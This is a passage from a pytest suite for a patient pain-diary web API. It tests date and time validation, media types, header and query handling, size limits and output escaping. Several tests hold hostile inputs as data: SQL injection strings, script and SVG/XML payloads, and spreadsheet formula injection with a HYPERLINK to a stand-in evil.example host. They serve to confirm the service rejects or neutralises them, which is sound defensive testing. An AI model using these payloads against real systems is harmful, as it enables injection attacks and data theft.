    pytest.param("entries", "local_date", "2025-02-29", id="local-date-feb-29-2025"),
    pytest.param("entries", "local_date", "2026-01-20\n", id="local-date-newline"),
    pytest.param("sessions", "occurred_at", "9999-12-31T23:59:59Z", id="session-9999"),
    pytest.param("sessions", "occurred_at", "0001-01-01T00:00:00Z", id="session-year-1"),
    pytest.param("sessions", "occurred_at", "2016-12-31T23:59:60+01:00", id="session-leap"),
    pytest.param("courses", "start_date", "0001-01-01", id="course-start-year-1"),
    pytest.param("courses", "start_date", "9999-12-31", id="course-start-9999"),
    pytest.param("courses", "start_date", "2200-01-01", id="course-start-2200"),
    pytest.param("courses", "start_date", "2025-02-29", id="course-start-feb-29-2025"),
]


@pytest.mark.parametrize(("collection", "field", "value"), BAD_TIMES)
def test_an_impossible_time_is_422_naming_the_field(
    records: Records, collection: str, field: str, value: str
) -> None:
    before = records.state()

    for method, path, content_type in records.writes(collection):
        body = {field: value} if method == "PATCH" else BASE[collection] | {field: value}
        response = records.send(method, path, json.dumps(body).encode(), content_type)

        problem = assert_problem(response, 422)
        assert f"body.{field}" in locs(problem), (method, path, problem)
        assert set(locs(problem)) <= {"body.recorded_at", "body.local_date", f"body.{field}"}
    assert records.state() == before


def test_a_time_part_out_of_range_is_named_in_the_message(records: Records) -> None:
    messages = {}
    for value in [
        "2016-12-31T23:59:60Z",
        "2026-01-20T24:00:00Z",
        "2026-01-20T08:30:00+24:00",
        "2026-01-20T08:30:00+05:60",
    ]:
        response = records.put("entries", str(uuid.uuid4()), ENTRY | {"recorded_at": value})
        messages[value] = assert_problem(response, 422)["errors"][0]["msg"]

    assert messages == {
        "2016-12-31T23:59:60Z": (
            "Value error, the second must be 00–59 (leap seconds are not accepted)"
        ),
        "2026-01-20T24:00:00Z": "Value error, the hour must be 00–23",
        "2026-01-20T08:30:00+24:00": "Value error, the offset hours must be 00–23",
        "2026-01-20T08:30:00+05:60": "Value error, the offset minutes must be 00–59",
    }


ODD_TIMES = [
    # (sent, returned, local_date): the same instant in the offset it was sent with.
    pytest.param("2026-01-20T08:30:00+14:00", "2026-01-20T08:30:00+14:00", "2026-01-20",
                 id="plus-14"),
    pytest.param("2026-01-20T08:30:00-12:00", "2026-01-20T08:30:00-12:00", "2026-01-20",
                 id="minus-12"),
    pytest.param("2026-01-20T08:30:00+23:59", "2026-01-20T08:30:00+23:59", "2026-01-20",
                 id="largest-rfc3339-offset"),
    pytest.param("2026-01-20T23:59:59.999999-23:59", "2026-01-20T23:59:59.999999-23:59",
                 "2026-01-20", id="last-microsecond-at-minus-23-59"),
    pytest.param("1900-01-01T00:00:00+14:00", "1900-01-01T00:00:00+14:00", "1900-01-01",
                 id="1900-whose-utc-is-1899"),
    pytest.param("2024-02-29T12:00:00+05:45", "2024-02-29T12:00:00+05:45", "2024-02-29",
                 id="feb-29-leap-year"),
    # Same instant and offset, written the canonical way.
    pytest.param("2026-01-20T08:30:00+00:00", "2026-01-20T08:30:00Z", "2026-01-20",
                 id="plus-00-00-as-z"),
    pytest.param("2026-01-20T08:30:00-00:00", "2026-01-20T08:30:00Z", "2026-01-20",
                 id="minus-00-00-as-z"),
    pytest.param("2026-01-20t08:30:00z", "2026-01-20T08:30:00Z", "2026-01-20",
                 id="lower-case-t-and-z"),
    pytest.param("2026-01-20 08:30:00+05:45", "2026-01-20T08:30:00+05:45", "2026-01-20",
                 id="space-separator"),
    pytest.param("2026-01-20T08:30+05:45", "2026-01-20T08:30:00+05:45", "2026-01-20",
                 id="no-seconds"),
    # Microseconds are the precision kept.
    pytest.param("2026-01-20T08:30:00.123456789+05:45", "2026-01-20T08:30:00.123456+05:45",
                 "2026-01-20", id="nanoseconds-cut-to-microseconds"),
]  # fmt: skip


@pytest.mark.parametrize(("sent", "returned", "local_date"), ODD_TIMES)
def test_a_time_at_the_edges_keeps_its_offset(
    records: Records, sent: str, returned: str, local_date: str
) -> None:
    entry_id, session_id = str(uuid.uuid4()), str(uuid.uuid4())

    entry = records.put("entries", entry_id, ENTRY | {"recorded_at": sent})
    session = records.put("sessions", session_id, SESSION | {"occurred_at": sent})

    assert entry.status_code == session.status_code == 201, (entry.text, session.text)
    for shown in [entry.json(), *records.everywhere("entries", entry_id)]:
        assert (shown["recorded_at"], shown["local_date"]) == (returned, local_date)
    for shown in [session.json(), *records.everywhere("sessions", session_id)]:
        assert (shown["occurred_at"], shown["local_date"]) == (returned, local_date)
    listed = records.get(f"{ME}/entries", **{"from": local_date, "to": local_date})
    assert entry_id in [e["id"] for e in listed.json()["items"]]


def test_a_course_may_span_the_whole_accepted_range(records: Records) -> None:
    course_id = str(uuid.uuid4())
    body = COURSE | {"start_date": "1900-01-01", "end_date": "2199-12-31"}

    created = records.put("courses", course_id, body)

    assert created.status_code == 201, created.text
    for shown in [created.json(), *records.everywhere("courses", course_id)]:
        assert (shown["start_date"], shown["end_date"]) == ("1900-01-01", "2199-12-31")


# --- Content types, query strings and headers -------------------------------------------


@pytest.mark.parametrize(
    "content_type",
    [
        "text/plain",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/octet-stream",
        None,  # JSON is read as JSON only when labelled so
    ],
)
def test_a_json_body_sent_as_another_media_type_is_422(
    records: Records, content_type: str | None
) -> None:
    before = records.state()

    for method, path, _ in records.every_write():
        body = {} if method == "PATCH" else ENTRY
        response = records.send(method, path, json.dumps(body).encode(), content_type)

        assert locs(assert_problem(response, 422))[0].startswith("body"), (method, path)
    assert records.state() == before


@pytest.mark.parametrize(
    "content_type",
    [
        "application/json; charset=utf-8",
        "APPLICATION/JSON",
        "application/vnd.paindiary+json",
        "application/json; charset=latin-1",  # JSON is UTF-8 whatever the label says
    ],
)
def test_json_under_an_odd_but_json_media_type_is_read(records: Records, content_type: str) -> None:
    record_id = str(uuid.uuid4())
    body = json.dumps(ENTRY | {"notes": "Schmerz ✓ é"}, ensure_ascii=False).encode()

    response = records.send("PUT", f"{ME}/entries/{record_id}", body, content_type)

    assert response.status_code == 201, response.text
    assert records.everywhere("entries", record_id)[0]["notes"] == "Schmerz ✓ é"


@pytest.mark.parametrize(
    ("path", "where"),
    [
        pytest.param(f"{ME}/entries?from=%FF%FE", "query.from", id="invalid-utf8-date"),
        pytest.param(f"{ME}/entries?cursor=%FF", "query.cursor", id="invalid-utf8-cursor"),
        pytest.param(f"{ME}/changes?since=%C0%AF", "query.since", id="overlong-utf8-since"),
        pytest.param(f"{ME}/entries?limit=" + "9" * 5000, "query.limit", id="limit-5000-digits"),
        pytest.param(f"{ME}/entries?limit=1e3", "query.limit", id="limit-exponent"),
        pytest.param(f"{ME}/entries?from=2025-02-29", "query.from", id="from-feb-29-2025"),
        pytest.param(f"{ME}/entries?from=2026-01-01'%20OR%20'1'='1", "query.from",
                     id="sql-in-date"),
        pytest.param(f"{ME}/sessions?course_id='%20OR%201=1--", "query.course_id",
                     id="sql-in-uuid"),
        pytest.param(f"{ME}/summary?from=0001-01-01", "query.from", id="summary-year-1"),
        pytest.param(f"{ME}/summary?to=9999-12-31", "query.to", id="summary-9999"),
        pytest.param("/v1/patients/%FF/entries", "path.patient_id", id="invalid-utf8-patient"),
        pytest.param("/v1/patients/1'%20OR%20'1'='1/entries", "path.patient_id",
                     id="sql-in-patient-id"),
        pytest.param(f"{ME}/entries/%ED%A0%80", "path.record_id", id="surrogate-record-id"),
    ],
)  # fmt: skip
def test_a_bad_query_or_path_is_422(records: Records, path: str, where: str) -> None:
    response = records.client.get(path, headers=records.patient.headers)

    assert where in locs(assert_problem(response, 422))


def test_sql_in_the_patient_list_sort_is_422(client: TestClient, clinician: Account) -> None:
    response = client.get(
        "/v1/patients",
        params={"sort": "attention'; DROP TABLE users;--"},
        headers=clinician.headers,
    )

    assert locs(assert_problem(response, 422)) == ["query.sort"]


def test_sql_in_credentials_and_codes_finds_nothing(
    client: TestClient, patient: Account, clinician: Account, records: Records
) -> None:
    before = records.state()
    for username, password in [
        ("' OR '1'='1", "' OR '1'='1"),
        (patient.email, "' OR '1'='1"),
        (patient.email + "'--", PASSWORD),
    ]:
        response = client.post(
            "/v1/auth/token",
            data={"grant_type": "password", "username": username, "password": password},
        )
        assert_problem(response, 401)
    linked = client.post("/v1/links", json={"code": "' OR '1'='1"}, headers=clinician.headers)
    assert_problem(linked, 404)
    assert records.state() == before


@pytest.mark.parametrize(
    ("header", "value", "status"),
    [
        pytest.param("Authorization", b"Bearer \xff\xfe", 401, id="token-invalid-utf8"),
        pytest.param("Authorization", b"Bearer " + b"a" * 10_000, 401, id="token-10k"),
        pytest.param("Authorization", "Bearer ' OR '1'='1", 401, id="token-sql"),
        pytest.param("If-Match", b"\xff", 400, id="if-match-invalid-utf8"),
        pytest.param("If-Match", b'"\xff"', 412, id="if-match-opaque-tag-never-issued"),
        pytest.param("If-Match", '"' + "9" * 5000 + '"', 412, id="if-match-5000-digits"),
        pytest.param("Idempotency-Key", "key\x7f", 422, id="idempotency-key-control"),
        pytest.param("Idempotency-Key", "k" * 256, 422, id="idempotency-key-256"),
    ],
)  # fmt: skip
def test_a_bad_header_on_a_write_is_a_problem_and_changes_nothing(
    records: Records, header: str, value: str | bytes, status: int
) -> None:
    before = records.state()
    body = json.dumps(ENTRY | {"pain": 9}).encode()
    writes = {
        "Authorization": [("PUT", f"{ME}/entries/{records.entry}"), ("POST", f"{ME}/entries")],
        "If-Match": [("PUT", f"{ME}/entries/{records.entry}")],  # what PUT and PATCH read
        "Idempotency-Key": [("POST", f"{ME}/entries")],  # what POST reads
    }[header]

    for method, path in writes:
        headers = records.patient.headers | {"Content-Type": JSON}
        response = records.client.request(
            method,
            path,
            content=body,
            headers=header_bytes(headers | {header: value}),
        )

        problem = assert_problem(response, status)
        if status == 401:
            assert response.headers["www-authenticate"] == "Bearer"
        if status == 422:
            assert locs(problem) == [f"header.{header}"]
    assert records.state() == before


def test_an_if_none_match_that_is_not_an_entity_tag_is_400(records: Records) -> None:
    response = records.client.get(
        f"{ME}/entries/{records.entry}",
        headers=header_bytes(records.patient.headers | {"If-None-Match": b"\xff"}),
    )

    assert "If-None-Match" in assert_problem(response, 400)["detail"]


def test_an_idempotency_key_of_raw_bytes_is_an_opaque_key(records: Records) -> None:
    """Header bytes outside ASCII read as Latin-1: an odd key, but a key; the retry gets
    the first answer and no second entry."""
    headers = {"Idempotency-Key": b"\xff\xfe-key"}
    body = json.dumps(ENTRY).encode()

    first = records.send("POST", f"{ME}/entries", body, headers=headers)
    again = records.send("POST", f"{ME}/entries", body, headers=headers)

    assert first.status_code == again.status_code == 201, (first.text, again.text)
    assert first.json() == again.json()
    assert first.headers["location"] == again.headers["location"]
    assert len(records.get(f"{ME}/entries").json()["items"]) == 2  # the fixture's and this


# --- What others read: the chart and the CSV --------------------------------------------

HOSTILE_NAMES = [
    # (course name, as the chart shows it): XML-forbidden characters dropped and whitespace
    # runs made one space, on the chart only.
    pytest.param("<script>alert(1)</script>", "<script>alert(1)</script>", id="script"),
    pytest.param("]]>", "]]>", id="cdata-end"),
    pytest.param("<svg onload=alert(1)>", "<svg onload=alert(1)>", id="svg-onload"),
    pytest.param("</title><script>x</script><title>", "</title><script>x</script><title>",
                 id="close-title"),
    pytest.param("<![CDATA[<script>x</script>]]>", "<![CDATA[<script>x</script>]]>", id="cdata"),
    pytest.param("<!DOCTYPE x[<!ENTITY e 'boom'>]>&e;", "<!DOCTYPE x[<!ENTITY e 'boom'>]>&e;",
                 id="doctype-entity"),
    pytest.param("&amp; &lt; &#x3C; \" '", "&amp; &lt; &#x3C; \" '", id="entities-and-quotes"),
    pytest.param("<?xml-stylesheet href='x.xsl'?>", "<?xml-stylesheet href='x.xsl'?>",
                 id="processing-instruction"),
    pytest.param("'); DROP TABLE treatment_courses;--", "'); DROP TABLE treatment_courses;--",
                 id="sql"),
    pytest.param("\u202eevil\u202c 😀 e\u0301", "\u202eevil\u202c 😀 e\u0301", id="unicode"),
    pytest.param("a\ufffeb\uffffc\x07d\x1be", "abcde", id="characters-xml-forbids"),
    pytest.param("line\nbreak\ttab", "line break tab", id="newline-and-tab"),
]  # fmt: skip
SVG_ELEMENTS = {"svg", "title", "desc", "rect", "g", "line", "text", "circle", "path"}


@pytest.mark.parametrize(("name", "shown"), HOSTILE_NAMES)
def test_a_hostile_course_name_is_text_in_the_chart(
    records: Records, name: str, shown: str
) -> None:
    course_id = str(uuid.uuid4())
    created = records.put("courses", course_id, COURSE | {"name": name})
    assert created.status_code == 201, created.text
    assert [c["name"] for c in [created.json(), *records.everywhere("courses", course_id)]] == [
        name
    ] * 5

    response = records.get(f"{ME}/report/chart.svg", course_id=course_id, as_of="2026-01-31")

    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "image/svg+xml; charset=utf-8"
    assert response.headers["x-content-type-options"] == "nosniff"
    root = ET.fromstring(response.content)  # noqa: S314 — a well-formed document is the point
    elements = list(root.iter())
    assert {e.tag for e in elements} <= {f"{{{SVG}}}{tag}" for tag in SVG_ELEMENTS}
    assert [e.tag for e in elements].count(f"{{{SVG}}}svg") == 1
    assert not [a for e in elements for a in e.attrib if a.lower().startswith("on")]
    assert b"<script" not in response.content and b"<!DOCTYPE" not in response.content
    title = root.find(f"{{{SVG}}}title")
    assert title is not None and title.text == shown
    (visible,) = [e for e in elements if e.get("class") == "title"]
    assert visible.text == shown


FORMULAS = [
    pytest.param('=HYPERLINK("http://evil.example/","x")', id="equals"),
    pytest.param("+SUM(1,2)", id="plus"),
    pytest.param("-2+3", id="minus"),
    pytest.param("@SUM(A1)", id="at"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="carriage-return"),
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_guards_formulas_and_json_keeps_them_verbatim(records: Records, formula: str) -> None:
    record_id = str(uuid.uuid4())
    tag = formula.strip()  # tags are stripped of surrounding whitespace
    body = ENTRY | {"notes": formula, "tags": [tag, "yoga"]} | nest("medications.0.name", tag)
    created = records.put("entries", record_id, body | {"local_date": "2026-01-19"})
    assert created.status_code == 201, created.text
    for shown in [created.json(), *records.everywhere("entries", record_id)]:
        assert (shown["notes"], shown["tags"], shown["medications"][0]["name"]) == (
            formula,
            [tag, "yoga"],
            tag,
        )

    response = records.get(f"{ME}/entries.csv", **{"from": "2026-01-19", "to": "2026-01-19"})

    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    header, row = list(csv.reader(io.StringIO(response.text, newline="")))
    cells = dict(zip(header, row, strict=True))
    assert cells["id"] == record_id
    assert cells["notes"] == "'" + formula
    assert cells["tags"] == "'" + tag + ";yoga"
    assert cells["medications"] == "'" + tag + " (as_needed)"


def test_csv_keeps_other_hostile_text_verbatim(records: Records) -> None:
    notes = '\'); DROP TABLE diary_entries;-- <script>x</script>\r\n"quoted", ]]> \u202e😀'
    record_id = str(uuid.uuid4())
    created = records.put(
        "entries", record_id, ENTRY | {"notes": notes, "local_date": "2026-01-19"}
    )
    assert created.status_code == 201, created.text

    response = records.get(f"{ME}/entries.csv", **{"from": "2026-01-19", "to": "2026-01-19"})

    header, row = list(csv.reader(io.StringIO(response.text, newline="")))
    assert dict(zip(header, row, strict=True))["notes"] == notes


# --- Oversized bodies -------------------------------------------------------------------

LIMIT = 2048


@pytest.fixture(scope="module")
def small_client(database_url: str) -> Iterator[TestClient]:
    """The same database behind an app that refuses request bodies over 2048 bytes."""
    app = create_app(make_settings(database_url, max_body_bytes=LIMIT))
    with TestClient(app, raise_server_exceptions=False) as test_client:
        yield test_client


def _chunks(raw: bytes, size: int = 500) -> Iterator[bytes]:
    for start in range(0, len(raw), size):
        yield raw[start : start + size]


def test_an_oversized_record_write_is_413_with_or_without_content_length(
    records: Records, small_client: TestClient
) -> None:
    before = records.state()
    big = ENTRY | {"notes": "n" * 2000, "tags": ["t" * 40] * 20}
    writes = [
        ("PUT", f"{ME}/entries/{uuid.uuid4()}", big),
        ("PUT", f"{ME}/entries/{records.entry}", big),
        ("POST", f"{ME}/entries", big),
        ("PATCH", f"{ME}/entries/{records.entry}", {"notes": "n" * 2000, "tags": ["t"] * 20}),
        ("POST", f"{ME}/entries/batch", {"items": [big | {"id": str(uuid.uuid4())}]}),
        (
            "PUT",
            f"{ME}/courses/{records.course}",
            COURSE | {"notes": "n" * 2000, "name": "x" * 200},
        ),
    ]
    for method, path, body in writes:
        raw = json.dumps(body).encode()
        assert len(raw) > LIMIT
        for content in (raw, _chunks(raw)):
            response = small_client.request(
                method,
                path,
                content=content,
                headers=records.patient.headers | {"Content-Type": JSON},
            )

            problem = assert_problem(response, 413)
            assert str(LIMIT) in problem["detail"]
    assert records.state() == before


def test_the_default_limit_refuses_a_body_of_5_mib(records: Records) -> None:
    before = records.state()
    raw = b'{"notes": "' + b"n" * (5 * 1024 * 1024) + b'"}'

    for content in (raw, _chunks(raw, 256 * 1024)):
        response = records.send("PUT", f"{ME}/entries/{records.entry}", content)

        assert_problem(response, 413)
    assert records.state() == before


# --- Found by these tests and fixed -----------------------------------------------------


@pytest.mark.parametrize(
    ("path", "as_of"),
    [
        pytest.param("report", "9999-12-31", id="report-9999"),
        pytest.param("report", "0001-01-01", id="report-year-1"),
        pytest.param("report/chart.svg", "9999-12-31", id="chart-9999"),
        pytest.param("report/chart.svg", "0001-01-01", id="chart-year-1"),
        pytest.param("report", "2199-12-31", id="report-2199"),
        pytest.param("report/chart.svg", "2199-12-31", id="chart-2199"),
        pytest.param("report", _DAY_AFTER_TOMORROW, id="report-day-after-tomorrow"),
        pytest.param("report/chart.svg", _DAY_AFTER_TOMORROW, id="chart-day-after-tomorrow"),
    ],
)
def test_a_report_as_of_outside_the_accepted_dates_is_422(
    client: TestClient, patient: Account, path: str, as_of: str
) -> None:
    """An ``as_of`` later than tomorrow in the patient's zone is refused (contract §6)."""
    response = client.get(f"{ME}/{path}", params={"as_of": as_of}, headers=patient.headers)

    assert locs(assert_problem(response, 422)) == ["query.as_of"]


@pytest.mark.parametrize("as_of", ["1900-01-01", "tomorrow"])
@pytest.mark.parametrize("path", ["report", "report/chart.svg"])
def test_a_report_as_of_the_first_or_last_accepted_day_is_answered(
    records: Records, path: str, as_of: str
) -> None:
    if as_of == "tomorrow":  # in the patient's zone (Europe/Berlin), when the test runs
        as_of = str(dt.datetime.now(ZoneInfo("Europe/Berlin")).date() + dt.timedelta(days=1))
    assert records.get(f"{ME}/{path}", as_of=as_of).status_code == 200


def _cursor(values: list[str]) -> str:
    return base64.urlsafe_b64encode(json.dumps(values).encode()).decode().rstrip("=")


ZERO = str(uuid.UUID(int=0))


@pytest.mark.parametrize(
    ("path", "param", "values"),
    [
        pytest.param("changes", "since", ["1", "entry\x00", ZERO], id="changes-nul"),
        pytest.param("changes", "since", ["9" * 30, "entry", ZERO], id="changes-huge-position"),
        pytest.param("entries", "cursor", ["9999-12-31", "9999-12-31T23:59:59-12:00", ZERO],
                     id="entries-year-10000"),
        pytest.param("entries", "cursor", ["0001-01-01", "0001-01-01T00:00:00+14:00", ZERO],
                     id="entries-year-0"),
        pytest.param("access-log", "cursor", ["0001-01-01T00:00:00+14:00", ZERO],
                     id="access-log-year-0"),
    ],
)  # fmt: skip
def test_a_forged_cursor_with_values_we_never_issue_is_422(
    records: Records, path: str, param: str, values: list[str]
) -> None:
    response = records.get(f"{ME}/{path}", **{param: _cursor(values)})

    assert locs(assert_problem(response, 422)) == [f"query.{param}"]


def test_if_match_compares_entity_tags_strongly(records: Records) -> None:
    response = records.send(
        "PATCH",
        f"{ME}/entries/{records.entry}",
        b'{"pain": 9}',
        MERGE_PATCH,
        headers={"If-Match": '"01"'},
    )

    assert_problem(response, 412)
